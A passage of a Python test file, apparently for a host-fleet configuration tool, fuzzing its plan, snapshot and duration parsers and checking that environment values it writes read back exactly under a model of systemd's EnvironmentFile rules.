    except ParseError:
        hashes = {}
    try:
        texts = parse_texts("h", lines)
    except ParseError:
        texts = {}
    try:
        units = parse_units("h", lines, hashes, texts)
    except ParseError as e:
        assert e.section == "units"
        return
    assert len({u.unit for u in units}) == len(units)


@QUICK
@given(st.one_of(st.text(max_size=40), st.from_regex(r"\s*[0-9]{1,8}\s*[mhdwMHDW]\s*", fullmatch=True),
                 st.from_regex(r"[0-9]{4}-[0-9]{2}-[0-9]{2}([T ][0-9]{2}:[0-9]{2}(:[0-9]{2})?)?Z?", fullmatch=True)))
def test_since_is_a_finite_time_or_a_fleet_error(text: str) -> None:
    try:
        t = parse_since(text, now=1_800_000_000.0)
    except FleetError as e:
        assert "30m, 2h, 3d, 1w" in e.hint
        return
    assert isinstance(t, float) and math.isfinite(t)


def test_an_absurd_duration_for_since_is_a_fleet_error() -> None:
    with pytest.raises(FleetError):
        parse_since("9" * 400 + "w")


def a_plan_document() -> dict[str, Any]:
    desired = config.load(REPO / DESIRED, REPO / "hosts").desired
    assert desired is not None
    bare = {h.name: parse_host(h.name, fixture_text("bare-fritz")) for h in desired.hosts}
    secrets = {("mastodon", k): f"value-of-{k}" for k, _ in desired.env_files[0].sensitive}
    plan = build_plan(desired, bare, secrets, now=datetime(2026, 11, 28, tzinfo=UTC))
    doc: dict[str, Any] = json.loads(plan.to_json())
    return doc


PLAN_DOC = a_plan_document()
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8)


def json_paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(value, dict):
        for k, v in value.items():
            yield from json_paths(v, (*path, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from json_paths(v, (*path, i))


PLAN_PATHS = list(json_paths(PLAN_DOC))[1:]


def assert_whole(plan: Plan) -> None:
    """A plan that loads is one the rest of fleet can use as it is: every change in one wave,
    every dependency a change of the plan, every field of the type apply and show read, shown
    without an exception, and saved again unchanged."""
    ids = [c.id for c in plan.changes]
    assert sorted(cid for wave in plan.waves for cid in wave) == sorted(ids)
    assert all(dep in ids for deps in plan.deps.values() for dep in deps)
    for c in plan.changes:
        assert c.action in set(Action)
        f = c.fields()
        texts = (c.host, c.action, c.target, c.reason, c.before, c.after, f["diff"], f["content_hash"])
        assert all(isinstance(t, str) for t in texts) and (c.service is None or isinstance(c.service, str)), c
        assert all(isinstance(t, str) for t in (*f["remove_files"], *f["steps"], *(x for k in f["keys"] for x in k))), c
        assert all(isinstance(k, str) and isinstance(v, str) for k, v in f["meta"].items()), c
    assert plan_text(plan)
    assert plan_from_json(plan.to_json()).to_dict() == plan.to_dict()


@QUICK
@given(JSON_VALUES)
def test_any_json_document_is_a_plan_or_a_plan_file_error(value: Any) -> None:
    with pytest.raises(PlanFileError):  # none of these few leaves can hold a plan's required fields
        plan_from_json(json.dumps(value))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(PLAN_PATHS), JSON_VALUES)
def test_a_saved_plan_with_any_field_replaced_is_a_plan_or_a_plan_file_error(path: tuple[Any, ...],
                                                                             value: Any) -> None:
    doc = copy.deepcopy(PLAN_DOC)
    parent = doc
    for k in path[:-1]:
        parent = parent[k]
    parent[path[-1]] = value
    try:
        plan = plan_from_json(json.dumps(doc))
    except PlanFileError:
        return
    assert_whole(plan)


@QUICK
@given(st.binary(max_size=300))
def test_a_plan_file_of_random_bytes_is_a_plan_file_error(raw: bytes) -> None:
    with pytest.raises(PlanFileError):
        plan_from_json(raw.decode("utf-8", "replace"))


def test_a_deeply_nested_plan_file_is_a_plan_file_error() -> None:
    with pytest.raises(PlanFileError):
        plan_from_json("[" * 100_000)


def show(capsys: pytest.CaptureFixture[str], tmp_path: Path, doc: dict[str, Any]) -> tuple[int, str]:
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(doc))
    code = cli.main(["show", str(path)])
    _, err = capsys.readouterr()
    return code, err


def test_a_plan_whose_waves_name_an_unknown_change_is_refused_cleanly(capsys: pytest.CaptureFixture[str],
                                                                      tmp_path: Path) -> None:
    doc = unpack_document(copy.deepcopy(PLAN_DOC), "plan.json")
    doc["waves"][0].append("fritz:start:nothing.service")
    code, err = show(capsys, tmp_path, pack_document(doc))
    assert code == 1 and err.startswith("fleet: error:")


def test_a_plan_with_a_malformed_env_key_change_is_refused_cleanly(capsys: pytest.CaptureFixture[str],
                                                                   tmp_path: Path) -> None:
    doc = unpack_document(copy.deepcopy(PLAN_DOC), "plan.json")
    env = next(c for c in doc["changes"] if c["action"] == "write-env")
    env["keys"][0] = ["S3_BUCKET"]
    code, err = show(capsys, tmp_path, pack_document(doc))
    assert code == 1 and err.startswith("fleet: error:")


SNAPSHOT = pack({"fritz": parse_host("fritz", fixture_text("drifted-franz")),
                 "franz": HostError("franz", "unreachable", "connection refused")})


@QUICK
@given(st.binary(max_size=400))
def test_random_bytes_as_a_snapshot_are_a_fleet_error(raw: bytes) -> None:
    with pytest.raises(FleetError, match="^a snapshot in the journal is damaged"):
        unpack(raw)


@QUICK
@given(st.integers(0, len(SNAPSHOT) - 1), st.integers(1, 255))
def test_a_snapshot_with_a_damaged_byte_is_a_fleet_error_or_the_same_snapshot(at: int, xor: int) -> None:
    # zlib's checksum catches a damaged byte in the data; only a byte zlib does not read back as
    # data (its header's compression-level bits) may change and leave the snapshot as it was.
    damaged = SNAPSHOT[:at] + bytes([SNAPSHOT[at] ^ xor]) + SNAPSHOT[at + 1:]
    try:
        results = unpack(damaged)
    except FleetError:
        return
    assert pack(results) == SNAPSHOT


@pytest.mark.parametrize("record", [b"null", b"[]", b'{"format": 1, "hosts": []}',
                                    b'{"format": 1, "hosts": {"fritz": {}}}'],
                         ids=["null", "list", "hosts-list", "host-without-facts"])
def test_a_snapshot_of_the_wrong_shape_is_a_fleet_error(record: bytes) -> None:
    with pytest.raises(FleetError):
        unpack(zlib.compress(record))


# ---------------------------------------------------------------------- env values as systemd reads them


def systemd_environment_file(text: str) -> dict[str, str]:
    """What systemd's EnvironmentFile= gives a service for `text`: a model of
    parse_env_file_internal() in systemd's src/basic/env-file.c (v252), states and all.
    Unquoted values lose trailing blanks; in double quotes a backslash only escapes
    `"`, `\\`, `` ` `` and `$` (any other `\\x` stays two characters); CR ends a line like LF."""
    comments, blanks, newlines, escapable = "#;", " \t\n\r", "\n\r", '"\\`$'
    env: dict[str, str] = {}
    state, key, value = "pre_key", "", ""
    key_blank: int | None = None
    value_blank: int | None = None

    def push(strip_trailing: bool) -> None:
        k = key if key_blank is None else key[:key_blank]
        env[k] = value[:value_blank] if strip_trailing and value_blank is not None else value

    for c in text:
        if state == "pre_key":
            if c in comments:
                state = "comment"
            elif c not in blanks:
                state, key, key_blank = "key", c, None
        elif state == "key":
            if c in newlines:
                state, key = "pre_key", ""
            elif c == "=":
                state, value, value_blank = "pre_value", "", None
            else:
                if c not in blanks:
                    key_blank = None
                elif key_blank is None:
                    key_blank = len(key)
                key += c
        elif state == "pre_value":
            if c in newlines:
                push(False)
                state, key = "pre_key", ""
            elif c == "'":
                state = "single"
            elif c == '"':
                state = "double"
            elif c == "\\":
                state = "escape"
            elif c not in blanks:
                state, value = "value", value + c
        elif state == "value":
            if c in newlines:
                push(True)
                state, key = "pre_key", ""
            elif c == "\\":
                state, value_blank = "escape", None
            else:
                if c not in blanks:
                    value_blank = None
                elif value_blank is None:
                    value_blank = len(value)
                value += c
        elif state == "escape":
            state = "value"
            if c not in newlines:
                value += c
        elif state == "single":
            if c == "'":
                state = "pre_value"
            else:
                value += c
        elif state == "double":
            if c == '"':
                state = "pre_value"
            elif c == "\\":
                state = "double_escape"
            else:
                value += c
        elif state == "double_escape":
            state = "double"
            if c in escapable:
                value += c
            elif c != "\n":
                value += "\\" + c
        elif state == "comment":
            if c == "\\":
                state = "comment_escape"
            elif c in newlines:
                state = "pre_key"
        elif state == "comment_escape":
            state = "comment"
    if state in ("pre_value", "value", "escape", "single", "double", "double_escape"):
        push(state == "value")
    return env


def test_the_systemd_model_reads_what_systemd_documents() -> None:
    text = ('# comment\nA=plain\nB = spaced  \nC="dq \\"x\\" \\$HOME \\q"\nD=\'sq $x\'\nE=con\\\ntinued\n'
            'F="multi\nline"\n; also a comment\nG=\n')
    assert systemd_environment_file(text) == {"A": "plain", "B": "spaced", "C": 'dq "x" $HOME \\q', "D": "sq $x",
                                              "E": "continued", "F": "multi\nline", "G": ""}


ENV_VALUES = st.text(alphabet=st.one_of(st.sampled_from(list("\"'$`\\=# \t%{}!;&|*?~()<>") + ["é", "✓", "日"]),
                                        st.characters(codec="utf-8", exclude_characters="\x00\n\r")), max_size=40)


@settings(max_examples=500, deadline=None)
@given(st.lists(ENV_VALUES, min_size=1, max_size=5))
def test_every_value_fleet_writes_reads_back_exactly_through_systemds_rules(values: list[str]) -> None:
    items = [(f"K{i}", v) for i, v in enumerate(values)]
    assert systemd_environment_file(render_file(items, header="Managed by fleet")) == dict(items)


@pytest.mark.parametrize("value", ["line one\nline two", "carriage\rreturn"], ids=["newline", "carriage-return"])
def test_a_value_with_a_line_break_reads_back_exactly_through_systemds_rules(value: str) -> None:
    assert systemd_environment_file(render_file([("K", value)])) == {"K": value}
